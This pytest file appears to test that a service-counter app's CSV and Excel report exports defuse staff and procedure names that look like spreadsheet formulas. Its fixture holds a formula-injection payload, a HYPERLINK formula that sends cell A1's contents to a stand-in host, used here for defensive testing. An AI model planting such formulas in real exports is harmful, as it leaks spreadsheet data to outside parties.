"""Report exports over HTTP when the names in them look like spreadsheet formulas: a procedure called
=HYPERLINK(…), a priority @SUM(A1), an officer -1+2, a field +… . The CSV writes them behind a
quote, the workbooks as text that stays text, and the figures stay numbers."""
import csv
import io

import pytest
from openpyxl import load_workbook

from counter_server.spreadsheet_cells import FORMULA_STARTS

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào")'
DAY = "from=2026-11-26&to=2026-11-26"


@pytest.fixture
def hostile_morning(api, session, centre, users, clock):
    """Names that look like formulas, then one ticket for that procedure served by that officer."""
    centre.birth.name = HYPERLINK
    centre.elderly.name_vi = "@SUM(A1)"
    centre.staff.full_name = "-1+2"
    centre.ht.name_vi = "+Lĩnh vực HT"
    session.commit()
    staff = api.login()
    api.take("HT", procedure=centre.birth.code, priority="elderly")
    clock.advance(minutes=10); api.counter("next", staff)
    clock.advance(minutes=5); api.counter("complete", staff)
    api.client.post("/api/v1/auth/logout")
    assert api.sign_in("lanhdao", "mat-khau-1").status_code == 302
    return api


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def formulas_in(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_log_csv_writes_names_behind_a_quote_and_figures_as_numbers(hostile_morning, client):
    rows = csv_rows(client.get(f"/reports/export/log.csv?{DAY}"))
    assert formulas_in(rows) == []
    ticket = dict(zip(rows[0], rows[1]))
    assert ticket["Thủ tục"] == "'" + HYPERLINK
    assert ticket["Ưu tiên"] == "'@SUM(A1)"
    assert ticket["Cán bộ"] == "'-1+2"
    assert ticket["Chờ (phút)"] == "10,0" and ticket["Phục vụ (phút)"] == "5,0" and ticket["Số"] == "A001"


@pytest.mark.parametrize("group, name", [("field", "'+Lĩnh vực HT"), ("officer", "'-1+2")], ids=["field", "officer"])
def test_the_summary_csvs_write_names_behind_a_quote(hostile_morning, client, group, name):
    rows = csv_rows(client.get(f"/reports/export/{group}.csv?{DAY}"))
    assert formulas_in(rows) == [] and rows[1][0] == name


def test_the_waits_api_csv_writes_names_behind_a_quote(hostile_morning, client):
    rows = csv_rows(client.get(f"/api/v1/reports/waits?{DAY}&group=field&format=csv"))   # the manager's cookie
    assert formulas_in(rows) == [] and rows[1][0] == "'+Lĩnh vực HT"


@pytest.mark.parametrize("url", [f"/reports/export/log.xlsx?{DAY}", f"/reports/export/workbook.xlsx?{DAY}&field=HT"],
                         ids=["log", "workbook"])
def test_the_workbooks_hold_the_names_as_text_that_stays_text(hostile_morning, client, url):
    book = load_workbook(io.BytesIO(client.get(url).data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = [cell for cell in cells if cell.value in (HYPERLINK, "@SUM(A1)", "-1+2", "+Lĩnh vực HT")]
    assert names and all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    assert any(cell.data_type == "n" for cell in cells)           # the figures are still numbers


def test_the_log_workbook_keeps_the_name_as_written_and_the_wait_a_number(hostile_morning, client):
    book = load_workbook(io.BytesIO(client.get(f"/reports/export/log.xlsx?{DAY}").data))
    sheet = book["Nhật ký chờ"]
    ticket = {title.value: cell for title, cell in zip(sheet[1], sheet[2])}
    assert ticket["Thủ tục"].value == HYPERLINK and ticket["Cán bộ"].value == "-1+2"
    assert ticket["Chờ (phút)"].value == pytest.approx(10.0)
